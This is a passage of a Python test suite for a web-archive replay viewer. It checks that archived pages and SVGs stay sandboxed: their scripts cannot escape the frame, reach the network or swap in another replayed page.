        framing = b'<!DOCTYPE html><title>Another site</title><iframe src="' + direct.encode() + b'" width=600 height=400></iframe>'
        with _site({"/framing.html": ("text/html", framing), "/opener.html": ("text/html", b"<title>Opener</title>")}) as (
            other, _,
        ), devtools() as pipe:
            # (a) in the viewer's frame: its script runs, and every way out is refused
            viewer, _ = _open(pipe, _view(resolver, name), _set_secret(pipe, resolver))
            out = json.loads(_in_frame_when(pipe, viewer, "document.getElementById('out').textContent",
                                            lambda v: len(json.loads(v or "{}")) == len(ATTEMPTS)) or "{}")
            framed_title = _in_frame(pipe, viewer, "document.title")
            _shot(pipe, viewer, "replay-escapes-viewer.png")
            _in_frame(pipe, viewer, "document.getElementById('go').click()")  # its handler: the frame navigated away
            # (b) opened top-level, in a tab of its own: sent to the viewer's page, where it is framed under the banner
            alone, _ = _open(pipe, direct)
            alone_at = _top(pipe, alone, "[location.href, document.querySelector('.replay-banner h1').textContent]")
            alone_out = json.loads(_in_frame_when(pipe, alone, "document.getElementById('out').textContent",
                                                  lambda v: len(json.loads(v or "{}")) == len(ATTEMPTS)) or "{}")
            alone_title = _in_frame(pipe, alone, "document.title")
            _shot(pipe, alone, "replay-escapes-top-level.png")
            # (c) framed by a page of another origin, same-site (127.0.0.1, another port) and cross-site (localhost)
            framed_elsewhere = []
            for host in (other, other.replace("127.0.0.1", "localhost")):
                elsewhere, _ = _open(pipe, host + "/framing.html")
                framed_elsewhere.append(_in_frame(pipe, elsewhere, "document.title + ' ' + location.href"))
            _shot(pipe, elsewhere, "replay-escapes-framed-elsewhere.png")
            # (d) opened by another site's page with window.open: a window of its own, sent to the viewer as (b)
            opener, _ = _open(pipe, other + "/opener.html")
            before = set(_page_targets(pipe))
            opened = pipe.call("Runtime.evaluate", {"expression": f"window.open({json.dumps(direct)}) !== null",
                                                    "userGesture": True, "returnByValue": True}, opener, time.monotonic() + 30)
            assert opened["result"]["value"] is True
            deadline = time.monotonic() + 20
            while not (popups := [t for t, url in _page_targets(pipe).items() if t not in before]):
                assert time.monotonic() < deadline, "no window opened"
                time.sleep(0.1)
            popup = _attach(pipe, popups[0])
            _loaded(pipe, popup, _view(resolver, name))
            popup_title = _top(pipe, popup, "[document.querySelector('.replay-banner h1').textContent, location.href]")
            time.sleep(2)  # what the attempts could still send (a refresh, a beacon) has had its time
            pages = set(_page_targets(pipe).values())
    resolver_port = int(resolver.rsplit(":", 1)[1])
    assert witnessed == []  # not one request to the network, from any of the four
    asked_of_resolver = [path for port, path, _ in heard if port == resolver_port]
    assert asked_of_resolver and all(p.startswith(("/view?", "/favicon.ico", "/favicon.svg")) for p in asked_of_resolver), asked_of_resolver
    assert not [path for port, path, _ in heard if port != resolver_port and not path.startswith(("/replay/", "/favicon.ico", "/favicon.svg"))]
    assert all(not url.startswith(f"http://127.0.0.1:{witness_port}") for url in pages)
    # (a) the legitimate case: the script ran, in its frame, and each way out failed or went nowhere
    assert framed_title == "scripted"
    assert set(out) == set(ATTEMPTS)  # every attempt was made
    assert out["top"] == "error:SecurityError" and out["open"] == "null" and out["open-resolver"] == "null"
    assert out["fetch"] == "error:TypeError" and out["fetch-resolver"] == "error:TypeError"
    assert out["worker"] == "error:SecurityError"
    # (b), (d): never alone on the replay host: at the viewer's page, under the banner naming it, its script run in
    # the viewer's frame only, where every way out failed as in (a)
    assert alone_at == [_view(resolver, name), name]
    assert alone_title == "scripted" and set(alone_out) == set(ATTEMPTS)
    assert alone_out["top"] == "error:SecurityError" and alone_out["open"] == "null"
    assert popup_title == [name, _view(resolver, name)]
    # (c): another site's frame shows nothing of it
    assert all(shown.endswith(" chrome-error://chromewebdata/") for shown in framed_elsewhere), framed_elsewhere
    framed_requests = [h for port, path, h in heard if port != resolver_port and path.startswith("/replay/")]
    assert {h.get("sec-fetch-dest") for h in framed_requests} >= {"iframe", "document"}


def _svg(colour: str, scripted: str) -> bytes:
    """An SVG image of one colour whose own script, if it runs, paints it ``scripted``."""
    return (f'<svg xmlns="http://www.w3.org/2000/svg" width="120" height="80"><rect id="r" width="120" height="80"'
            f' fill="{colour}"/><script>document.getElementById("r").setAttribute("fill", "{scripted}")</script></svg>').encode()


#: A page that shows two archived SVG images by <object> and <embed>, and one of a data: URL (red, never shown).
OBJECTS = (
    b'<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Objects</title><style>body{margin:0;background:#fff}'
    b" object,embed{display:block;margin:10px;border:0}</style></head><body>"
    b'<object id="object" data="pic.svg" type="image/svg+xml" width="120" height="80"></object>'
    b'<embed id="embed" src="pic2.svg" type="image/svg+xml" width="120" height="80">'
    b'<object id="data" data="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22 width=%22120%22'
    b' height=%2280%22%3E%3Crect width=%22120%22 height=%2280%22 fill=%22%23d00000%22/%3E%3C/svg%3E"'
    b' type="image/svg+xml" width="120" height="80"></object></body></html>\n'
)


@pytest.mark.parametrize("scripts", [False, True], ids=["scripts-off", "scripts-on"])
def test_an_archived_svg_shown_by_object_and_embed_is_replayed_and_its_script_never_runs(
    tmp_path: Path, scripts: bool,
) -> None:
    # With --replay-scripts the page runs in an opaque origin, and its request for the SVG is cross-site, as another
    # site's embedding of it would be: what a page holds is shown, and runs no script, either way.
    files = {"/index.html": ("text/html; charset=utf-8", OBJECTS),
             "/pic.svg": ("image/svg+xml", _svg("#00a000", "#0000c0")),
             "/pic2.svg": ("image/svg+xml", _svg("#00a000", "#0000c0"))}
    location = str(tmp_path / "archive")
    with Archive.init(location) as archive:
        archive.add_series(SERIES)
    with _site(files) as (site, asked):
        got = capture(site + "/index.html", allow_private=True)
    with Archive.open(location) as archive:
        (name,) = deposit_capture(archive, SERIES, site + "/index.html", got.mhtml).names
    assert {"/pic.svg", "/pic2.svg"} <= set(asked)  # the capture holds both images
    heard: list[tuple[int, str, dict[str, str]]] = []
    with with_replay(location, scripts=scripts, heard=heard) as (resolver, replay), devtools() as pipe:
        session, events = _open(pipe, _view(resolver, str(name)))
        frame = json.loads(_top(pipe, session, "JSON.stringify(document.querySelector('iframe.replay').getBoundingClientRect())"))
        boxes = json.loads(_in_frame(pipe, session, "JSON.stringify(Object.fromEntries(['object', 'embed', 'data'].map("
                                                    "(id) => [id, document.getElementById(id).getBoundingClientRect()])))"))
        centres = {key: (int(frame["x"] + b["x"] + b["width"] / 2), int(frame["y"] + b["y"] + b["height"] / 2))
                   for key, b in boxes.items()}
        wanted = (0, 160, 0)  # as archived: blue, had its script run
        deadline = time.monotonic() + 20
        while True:  # an object's document is drawn after the page's load event: waited for, not slept for
            shot = _screenshot(pipe, session)
            colours = {key: shot.getpixel(xy) for key, xy in centres.items()}
            if (colours["object"], colours["embed"]) == (wanted, wanted) or time.monotonic() > deadline:
                break
            time.sleep(0.1)
        SHOTS.mkdir(parents=True, exist_ok=True)
        shot.save(SHOTS / f"replay-svg-objects-{'scripts-on' if scripts else 'scripts-off'}.png")
        # the frame's requests may come after the page's load event (on a loaded machine, the opaque origin's
        # process): those the pipe has read since are counted too
        later = [m for m in pipe.events if m.get("sessionId") in (session, _children.get(session))]
    quoted = urllib.parse.quote(str(name), safe="")
    requested = _requested(events + later)
    assert f"{replay}/replay/{quoted}/pic.svg" in requested and f"{replay}/replay/{quoted}/pic2.svg" in requested
    # the archived images, drawn, green as archived: their own script did not run
    assert colours["object"] == wanted and colours["embed"] == wanted, colours
    fetched = {path.rsplit("/", 1)[1]: (h.get("sec-fetch-dest"), h.get("sec-fetch-site")) for _, path, h in heard
               if path.endswith(".svg") and path != "/favicon.svg"}  # the viewer's icon: the browser's own request
    site = "cross-site" if scripts else "same-origin"  # from the page's opaque origin, or from the replay origin
    assert fetched == {"pic.svg": ("object", site), "pic2.svg": ("embed", site)}
    assert colours["data"] != (208, 0, 0)  # a data: object is not shown: object-src 'self' alone



#: A page that shows an archived SVG by <object> and an archived image; the SVG is a link to the live web (LIVE).
LINKED = (
    b'<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Linked</title><style>body{margin:0;background:#fff}'
    b" object,img{display:block;margin:10px;border:0}</style></head><body>"
    b'<object id="object" data="pic.svg" type="image/svg+xml" width="120" height="80"></object>'
    b'<img id="img" src="sun.png" alt="sun" width="60" height="40"></body></html>\n'
)
LINKED_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="80">'
              '<a href="LIVE" xlink:href="LIVE"><rect width="120" height="80" fill="#00a000"/></a></svg>')


def test_an_svg_part_opened_in_a_tab_is_shown_in_the_viewer_and_its_link_reaches_nothing(tmp_path: Path) -> None:
    # A reviewer opened a capture's SVG part in a tab of its own: it stood alone on the replay host, with its
    # references as archived, and a click on its link went to the live web. Now the tab is sent to the viewer's
    # page of the capture, whose frame shows the page and its images; a click on the SVG there reaches nothing.
    location = str(tmp_path / "archive")
    with Archive.init(location) as archive:
        archive.add_series(SERIES)
    with _witness() as (witness_port, witnessed):
        live = f"http://127.0.0.1:{witness_port}/live"
        files = {"/index.html": ("text/html; charset=utf-8", LINKED),
                 "/pic.svg": ("image/svg+xml", LINKED_SVG.replace("LIVE", live).encode()),
                 "/sun.png": ("image/png", _png())}
        with _site(files) as (site, _):
            got = capture(site + "/index.html", allow_private=True)
        with Archive.open(location) as archive:
            name = str(deposit_capture(archive, SERIES, site + "/index.html", got.mhtml).names[0])
        with with_replay(location) as (resolver, replay), devtools() as pipe:
            part = f"{replay}/replay/{urllib.parse.quote(name, safe='')}/pic.svg"
            kept = urllib.request.urlopen(part, timeout=30).read().decode()  # asked with no fetch metadata: the file
            session, _ = _open(pipe, part)
            at = _top(pipe, session, "[location.href, document.querySelector('.replay-banner h1').textContent,"
                                     " document.querySelector('.replay-banner .pdi-name code').textContent]")
            frame = json.loads(_top(pipe, session, "JSON.stringify(document.querySelector('iframe.replay').getBoundingClientRect())"))
            box = json.loads(_in_frame(pipe, session, "JSON.stringify(document.getElementById('object').getBoundingClientRect())"))
            image = _in_frame_when(pipe, session, "document.getElementById('img').naturalWidth", lambda v: v == 60)
            x, y = frame["x"] + box["x"] + box["width"] / 2, frame["y"] + box["y"] + box["height"] / 2
            deadline = time.monotonic() + 20
            while True:  # the object's document is drawn after the page's load event: waited for, not slept for
                shot = _screenshot(pipe, session)
                if shot.getpixel((int(x), int(y))) == (0, 160, 0) or time.monotonic() > deadline:
                    break
                time.sleep(0.1)
            SHOTS.mkdir(parents=True, exist_ok=True)
            shot.save(SHOTS / "replay-svg-part-opened-in-a-tab.png")
            for kind, buttons in (("mouseMoved", 0), ("mousePressed", 1), ("mouseReleased", 0)):
                _mouse(pipe, session, kind, x, y, buttons)
            time.sleep(2)  # what the click could still send has had its time
            after = _top(pipe, session, "location.href")
    assert live in kept  # the part holds a link to the live web, as archived
    # the tab is at the viewer's page, under the banner naming the capture and the URL it was taken from
    assert at[0] == _view(resolver, name) and at[1].startswith(site + "/index.html captured ") and at[2] == name
    assert shot.getpixel((int(x), int(y))) == (0, 160, 0) and image == 60  # its frame shows the page and its images
    assert witnessed == [] and after == _view(resolver, name)  # the click on the SVG's link reached nothing


#: A page whose script navigates its own frame to another page replayed on the same origin (OTHER: its path there).
SWAPS = (
    "<!DOCTYPE html><html><head><meta charset=utf-8><title>Swaps</title></head><body><h1>The page asked for</h1>"
    '<script>location.href = "OTHER";</script></body></html>'
)


def test_an_archived_page_cannot_swap_its_frame_for_another_replayed_page(tmp_path: Path) -> None:
    # The banner names the page asked for; its frame must never show another name's page, not even one replayed on
    # the same origin: the navigation is refused (ERR_BLOCKED_BY_CSP), nothing of the other page is fetched.
    location = str(tmp_path / "archive")
    with Archive.init(location) as archive:
        archive.add_series(SERIES)
        other = str(archive.add(SERIES, b"<!DOCTYPE html><title>Other</title><h1>Another page</h1>", format="html"))
        other_path = f"/replay/{urllib.parse.quote(other, safe='')}/index.html"
        name = str(archive.add(SERIES, SWAPS.replace("OTHER", other_path).encode(), format="html"))
    with with_replay(location, scripts=True) as (resolver, _), devtools() as pipe:
        session, events = _open(pipe, _view(resolver, name))
        asked = {e["params"]["requestId"] for e in events if e.get("method") == "Network.requestWillBeSent"}
        deadline = time.monotonic() + 20
        while True:  # until the frame's navigation has been answered, or refused (a document that failed to load)
            shown = [e for e in events if e.get("method") == "Network.responseReceived"
                     and other_path in e["params"]["response"]["url"]]
            refused = [e for e in events if e.get("method") == "Network.loadingFailed"
                       and e["params"].get("type") == "Document" and e["params"]["requestId"] not in asked]
            if shown or refused:
                break
            assert time.monotonic() < deadline, "the page's navigation was neither answered nor refused"
            message = pipe.events.pop(0) if pipe.events else pipe.receive(deadline)
            if message is not None and message.get("sessionId") in (session, _children.get(session)):
                events.append(message)
        heading = _top(pipe, session, "document.querySelector('.replay-banner h1').textContent")
    answered = [e["params"]["response"]["url"] for e in events if e.get("method") == "Network.responseReceived"]
    failed = [e["params"]["errorText"] for e in events if e.get("method") == "Network.loadingFailed"]
    assert heading == name  # the banner names the page asked for
    assert not [url for url in answered if other_path in url], answered  # and its frame never shows another
    assert failed == ["net::ERR_BLOCKED_BY_CSP"]
